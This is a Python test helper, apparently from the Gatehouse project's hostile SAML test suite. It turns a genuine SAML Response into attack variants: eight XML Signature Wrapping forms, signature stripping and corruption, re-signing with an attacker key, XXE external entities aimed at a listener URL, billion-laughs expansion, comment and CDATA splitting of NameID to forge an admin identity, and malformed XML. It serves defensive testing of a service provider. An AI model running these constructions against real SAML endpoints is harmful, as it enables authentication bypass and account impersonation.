"""Turns a genuine SAML Response (base64, as a peer IdP posted it) into an attack, for
Gatehouse's hostile SAML tests (tests/tests/saml_hostile.rs, harness tests/src/saml.rs).

    .venv/bin/python attacks.py MODE [options] < response.b64 > attack.b64

The constructions follow the SAML attack literature (security-and-peers.md §1): XSW1–XSW8 as
SAMLRaider builds them, signature exclusion and corruption, certificate swapping (re-signed
with an attacker's key whose certificate is put in KeyInfo, with Debian's `xmlsec1`), DTD
and entity attacks, node splitting inside NameID, edits after signing, and malformed XML.
`resign-idp` edits the content and signs again with the IdP's own key (which the test
holds): a genuine signature over content the SP must still refuse.

Options:
  --evil VALUE          the NameID an attack puts in (default admin@example.test)
  --split-after PREFIX  comment/cdata/pi-in-nameid: where to split NameID's text
  --attacker-key PEM --attacker-cert PEM   resign-with-attacker-key
  --idp-key PEM --idp-cert PEM             resign-idp
  --set FIELD=VALUE     resign-idp: audience, recipient, destination, issuer, in_response_to,
                        not_before, not_on_or_after (ISO 8601), nameid, shift (seconds
                        added to every timestamp); in_response_to= removes it (repeatable)
  --listener URL        doctype-external-entity: the URL the entity points at
  --other FILE          two-assertions: another genuine response (base64) whose signed
                        assertion is added
"""

import argparse
import base64
import copy
import datetime
import os
import subprocess
import sys
import tempfile

from lxml import etree

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
NS = {"samlp": SAMLP, "saml": SAML, "ds": DS}

MODES = [
    "xsw1", "xsw2", "xsw3", "xsw4", "xsw5", "xsw6", "xsw7", "xsw8",
    "strip-all-signatures", "strip-signature-value", "corrupt-signature-value",
    "unsigned-assertion-beside-signed", "two-assertions", "resign-with-attacker-key",
    "doctype-external-entity", "billion-laughs", "comment-in-nameid", "cdata-in-nameid",
    "pi-in-nameid", "nameid-changed", "attribute-changed", "malformed-unclosed",
    "malformed-second-root", "malformed-trailing-bytes", "resign-idp",
]


class AttackError(Exception):
    pass


def parse(xml):
    parser = etree.XMLParser(remove_blank_text=False, resolve_entities=False, no_network=True)
    return etree.fromstring(xml, parser)


def serialize(root):
    return etree.tostring(root, encoding="utf-8")


def one(root, path):
    found = root.xpath(path, namespaces=NS)
    if not found:
        raise AttackError(f"the response has no {path}")
    return found[0]


def assertion(root):
    return one(root, "/samlp:Response/saml:Assertion")


def own_signature(element):
    """The ds:Signature that is a direct child of `element`, if any."""
    found = element.xpath("ds:Signature", namespaces=NS)
    return found[0] if found else None


def strip_signature(element):
    signature = own_signature(element)
    if signature is not None:
        element.remove(signature)
    return element


def make_evil(element, evil):
    """Changes NameID (and every attribute value equal to it) to `evil`."""
    name_id = one(element, ".//saml:Subject/saml:NameID")
    original = name_id.text
    name_id.text = evil
    for value in element.xpath(".//saml:AttributeValue", namespaces=NS):
        if value.text == original:
            value.text = evil
    return element


def new_id(element, suffix="-evil"):
    element.set("ID", element.get("ID") + suffix)
    return element


def signed_assertion(root):
    found = assertion(root)
    if own_signature(found) is None:
        raise AttackError("the assertion is not signed: ask the peer to sign it")
    return found


def signed_response(root):
    if own_signature(root) is None:
        raise AttackError("the response is not signed: ask the peer to sign it (sign_response)")
    return root


def xsw1(root, evil):
    signed_response(root)
    clone = strip_signature(copy.deepcopy(root))
    own_signature(root).append(clone)
    make_evil(assertion(root), evil)
    new_id(root)
    return serialize(root)


def xsw2(root, evil):
    signature = own_signature(signed_response(root))
    clone = strip_signature(copy.deepcopy(root))
    signature.addprevious(clone)
    make_evil(assertion(root), evil)
    new_id(root)
    return serialize(root)


def evil_copy(element, evil):
    return new_id(make_evil(strip_signature(copy.deepcopy(element)), evil))


def xsw3(root, evil):
    original = signed_assertion(root)
    original.addprevious(evil_copy(original, evil))
    return serialize(root)


def xsw4(root, evil):
    original = signed_assertion(root)
    wrapper = evil_copy(original, evil)
    original.addprevious(wrapper)
    wrapper.append(original)
    return serialize(root)


def xsw5(root, evil):
    original = signed_assertion(root)
    clean = strip_signature(copy.deepcopy(original))
    make_evil(original, evil)
    new_id(original)
    root.append(clean)
    return serialize(root)


def xsw6(root, evil):
    original = signed_assertion(root)
    clean = strip_signature(copy.deepcopy(original))
    make_evil(original, evil)
    new_id(original)
    own_signature(original).append(clean)
    return serialize(root)


def xsw7(root, evil):
    original = signed_assertion(root)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(evil_copy(original, evil))
    original.addprevious(extensions)
    return serialize(root)


def xsw8(root, evil):
    original = signed_assertion(root)
    clean = strip_signature(copy.deepcopy(original))
    make_evil(original, evil)
    obj = etree.SubElement(own_signature(original), f"{{{DS}}}Object")
    obj.append(clean)
    return serialize(root)


def strip_all_signatures(root, _evil):
    for signature in root.xpath("//ds:Signature", namespaces=NS):
        signature.getparent().remove(signature)
    return serialize(root)


def strip_signature_value(root, _evil):
    values = root.xpath("//ds:SignatureValue", namespaces=NS)
    if not values:
        raise AttackError("no SignatureValue")
    for value in values:
        value.getparent().remove(value)
    return serialize(root)


def corrupt_signature_value(root, _evil):
    values = root.xpath("//ds:SignatureValue", namespaces=NS)
    if not values:
        raise AttackError("no SignatureValue")
    for value in values:
        raw = bytearray(base64.b64decode("".join(value.text.split())))
        raw[len(raw) // 2] ^= 0x01
        value.text = base64.b64encode(bytes(raw)).decode()
    return serialize(root)


def unsigned_assertion_beside_signed(root, evil):
    original = signed_assertion(root)
    original.addnext(evil_copy(original, evil))
    return serialize(root)


def two_assertions(root, _evil, args):
    """A second assertion after the signed one: the assertion of another genuine response
    (`--other`, e.g. the IdP's answer to the same request for another user), signed and
    with its own ID; without `--other`, an exact copy (the same ID twice)."""
    original = signed_assertion(root)
    if args.other:
        with open(args.other, encoding="ascii") as file:
            other = parse(base64.b64decode("".join(file.read().split())))
        original.addnext(signed_assertion(other))
    else:
        original.addnext(copy.deepcopy(original))
    return serialize(root)


def signature_template(reference_id, with_cert):
    key_info = "<ds:KeyInfo><ds:X509Data/></ds:KeyInfo>" if with_cert else ""
    return parse(
        f'<ds:Signature xmlns:ds="{DS}"><ds:SignedInfo>'
        '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
        '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>'
        f'<ds:Reference URI="#{reference_id}"><ds:Transforms>'
        '<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>'
        '<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
        '</ds:Transforms><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/>'
        "<ds:DigestValue/></ds:Reference></ds:SignedInfo><ds:SignatureValue/>"
        f"{key_info}</ds:Signature>".encode()
    )


def xmlsec_sign(xml, key, cert):
    """Signs the first empty ds:Signature template in document order with xmlsec1."""
    with tempfile.TemporaryDirectory() as scratch:
        source = os.path.join(scratch, "in.xml")
        target = os.path.join(scratch, "out.xml")
        with open(source, "wb") as file:
            file.write(xml)
        result = subprocess.run(
            [
                "xmlsec1", "--sign", "--privkey-pem", f"{key},{cert}",
                "--id-attr:ID", f"{SAMLP}:Response",
                "--id-attr:ID", f"{SAML}:Assertion",
                "--output", target, source,
            ],
            capture_output=True,
            check=False,
        )
        if result.returncode != 0:
            raise AttackError(f"xmlsec1 --sign failed: {result.stderr.decode(errors='replace')}")
        with open(target, "rb") as file:
            return file.read()


def resign(root, key, cert):
    """Removes every signature and signs again what was signed (the assertion, the
    response, or both) with `key`, its certificate in KeyInfo."""
    the_assertion = assertion(root)
    assertion_signed = own_signature(the_assertion) is not None
    response_signed = own_signature(root) is not None
    strip_signature(the_assertion)
    strip_signature(root)
    xml = serialize(root)
    if assertion_signed:
        root = parse(xml)
        the_assertion = assertion(root)
        one(the_assertion, "saml:Issuer").addnext(signature_template(the_assertion.get("ID"), True))
        xml = xmlsec_sign(serialize(root), key, cert)
    if response_signed:
        root = parse(xml)
        one(root, "saml:Issuer").addnext(signature_template(root.get("ID"), True))
        xml = xmlsec_sign(serialize(root), key, cert)
    return xml


def resign_with_attacker_key(root, evil, args):
    make_evil(assertion(root), evil)
    return resign(root, args.attacker_key, args.attacker_cert)


def set_field(root, field, value):
    the_assertion = assertion(root)
    if field == "audience":
        for audience in the_assertion.xpath(".//saml:Audience", namespaces=NS):
            audience.text = value
    elif field == "recipient":
        one(the_assertion, ".//saml:SubjectConfirmationData").set("Recipient", value)
    elif field == "destination":
        root.set("Destination", value)
    elif field == "issuer":
        for issuer in root.xpath("saml:Issuer|saml:Assertion/saml:Issuer", namespaces=NS):
            issuer.text = value
    elif field == "in_response_to":
        confirmation = one(the_assertion, ".//saml:SubjectConfirmationData")
        for element in (root, confirmation):
            if value:
                element.set("InResponseTo", value)
            elif "InResponseTo" in element.attrib:
                del element.attrib["InResponseTo"]
    elif field == "not_before":
        one(the_assertion, "saml:Conditions").set("NotBefore", value)
    elif field == "not_on_or_after":
        one(the_assertion, "saml:Conditions").set("NotOnOrAfter", value)
        one(the_assertion, ".//saml:SubjectConfirmationData").set("NotOnOrAfter", value)
    elif field == "nameid":
        one(the_assertion, ".//saml:Subject/saml:NameID").text = value
    elif field == "shift":
        shift_times(root, int(value))
    else:
        raise AttackError(f"unknown field {field}")


TIME_ATTRIBUTES = ("IssueInstant", "NotBefore", "NotOnOrAfter", "AuthnInstant", "SessionNotOnOrAfter")


def shift_times(root, seconds):
    """Moves every timestamp in the response by `seconds` (for a host whose clock was moved)."""
    for element in root.iter():
        for name in TIME_ATTRIBUTES:
            value = element.get(name)
            if value:
                moment = datetime.datetime.fromisoformat(value.replace("Z", "+00:00"))
                moved = moment + datetime.timedelta(seconds=seconds)
                element.set(name, moved.astimezone(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ"))


def resign_idp(root, _evil, args):
    for assignment in args.set:
        field, _, value = assignment.partition("=")
        set_field(root, field, value)
    return resign(root, args.idp_key, args.idp_cert)


def with_doctype(xml, doctype, entity_in_nameid):
    """The serialized response with a DOCTYPE before its root and an entity reference
    appended to NameID's text (written as text: lxml would escape the `&`)."""
    root = parse(xml)
    name_id = one(root, ".//saml:Subject/saml:NameID")
    marker = "GATEHOUSE-ENTITY-MARKER"
    name_id.text = (name_id.text or "") + marker
    text = serialize(root).decode()
    if text.startswith("<?xml"):
        text = text[text.index("?>") + 2:].lstrip()
    return (doctype + "\n" + text.replace(marker, entity_in_nameid)).encode()


def doctype_external_entity(root, _evil, args):
    listener = args.listener or "http://127.0.0.1:9/"
    doctype = (
        f'<!DOCTYPE samlp:Response SYSTEM "{listener}dtd" [\n'
        f'  <!ENTITY xxe SYSTEM "{listener}entity">\n'
        f'  <!ENTITY % remote SYSTEM "{listener}parameter-entity">\n'
        "  %remote;\n"
        "]>"
    )
    return with_doctype(serialize(root), doctype, "&xxe;")


def billion_laughs(root, _evil):
    entities = ['  <!ENTITY lol0 "lol">']
    for level in range(1, 10):
        refs = "".join(f"&lol{level - 1};" for _ in range(10))
        entities.append(f'  <!ENTITY lol{level} "{refs}">')
    doctype = "<!DOCTYPE samlp:Response [\n" + "\n".join(entities) + "\n]>"
    return with_doctype(serialize(root), doctype, "&lol9;")


def split_name_id(root, args, piece):
    """Splits NameID's text after `--split-after` (default: after its `@`) and puts
    `piece` (a comment, CDATA section or PI, as text) between the two halves. The
    signature is left as it is: exc-c14n drops comments, so that one still verifies."""
    name_id = one(root, ".//saml:Subject/saml:NameID")
    text = name_id.text
    if args.split_after:
        if not text.startswith(args.split_after):
            raise AttackError(f"NameID {text!r} does not start with {args.split_after!r}")
        cut = len(args.split_after)
    else:
        cut = text.index("@") + 1
    marker = "GATEHOUSE-SPLIT-MARKER"
    name_id.text = text[:cut] + marker + text[cut:]
    return serialize(root).replace(marker.encode(), piece.encode())


def comment_in_nameid(root, _evil, args):
    return split_name_id(root, args, "<!---->")


def cdata_in_nameid(root, _evil, args):
    name_id = one(root, ".//saml:Subject/saml:NameID")
    text = name_id.text
    cut = len(args.split_after) if args.split_after else text.index("@") + 1
    marker = "GATEHOUSE-CDATA-MARKER"
    name_id.text = marker
    return serialize(root).replace(
        marker.encode(), f"{text[:cut]}<![CDATA[{text[cut:]}]]>".encode()
    )


def pi_in_nameid(root, _evil, args):
    return split_name_id(root, args, "<?gatehouse split?>")


def nameid_changed(root, evil):
    one(root, ".//saml:Subject/saml:NameID").text = evil
    return serialize(root)


def attribute_changed(root, _evil):
    value = one(root, ".//saml:AttributeStatement/saml:Attribute/saml:AttributeValue")
    value.text = "Changed-After-Signing"
    return serialize(root)


def malformed_unclosed(root, _evil):
    xml = serialize(root)
    end = xml.rindex(b"</")
    return xml[:end]


def malformed_second_root(root, evil):
    xml = serialize(root)
    second = copy.deepcopy(root)
    strip_signature(second)
    for signature in second.xpath("//ds:Signature", namespaces=NS):
        signature.getparent().remove(signature)
    make_evil(assertion(second), evil)
    return xml + serialize(second)


def malformed_trailing_bytes(root, _evil):
    return serialize(root) + b"\x00trailing <bytes & junk"


PLAIN = {
    "xsw1": xsw1, "xsw2": xsw2, "xsw3": xsw3, "xsw4": xsw4, "xsw5": xsw5, "xsw6": xsw6,
    "xsw7": xsw7, "xsw8": xsw8,
    "strip-all-signatures": strip_all_signatures,
    "strip-signature-value": strip_signature_value,
    "corrupt-signature-value": corrupt_signature_value,
    "unsigned-assertion-beside-signed": unsigned_assertion_beside_signed,
    "billion-laughs": billion_laughs,
    "nameid-changed": nameid_changed,
    "attribute-changed": attribute_changed,
    "malformed-unclosed": malformed_unclosed,
    "malformed-second-root": malformed_second_root,
    "malformed-trailing-bytes": malformed_trailing_bytes,
}
WITH_ARGS = {
    "resign-with-attacker-key": resign_with_attacker_key,
    "resign-idp": resign_idp,
    "two-assertions": two_assertions,
    "doctype-external-entity": doctype_external_entity,
    "comment-in-nameid": comment_in_nameid,
    "cdata-in-nameid": cdata_in_nameid,
    "pi-in-nameid": pi_in_nameid,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("mode", choices=MODES)
    parser.add_argument("--evil", default="admin@example.test")
    parser.add_argument("--split-after")
    parser.add_argument("--attacker-key")
    parser.add_argument("--attacker-cert")
    parser.add_argument("--idp-key")
    parser.add_argument("--idp-cert")
    parser.add_argument("--set", action="append", default=[])
    parser.add_argument("--listener")
    parser.add_argument("--other")
    args = parser.parse_args()
    genuine = base64.b64decode("".join(sys.stdin.read().split()))
    root = parse(genuine)
    try:
        if args.mode in PLAIN:
            attack = PLAIN[args.mode](root, args.evil)
        else:
            attack = WITH_ARGS[args.mode](root, args.evil, args)
    except AttackError as error:
        sys.exit(f"attacks.py {args.mode}: {error}")
    sys.stdout.write(base64.b64encode(attack).decode())


if __name__ == "__main__":
    main()
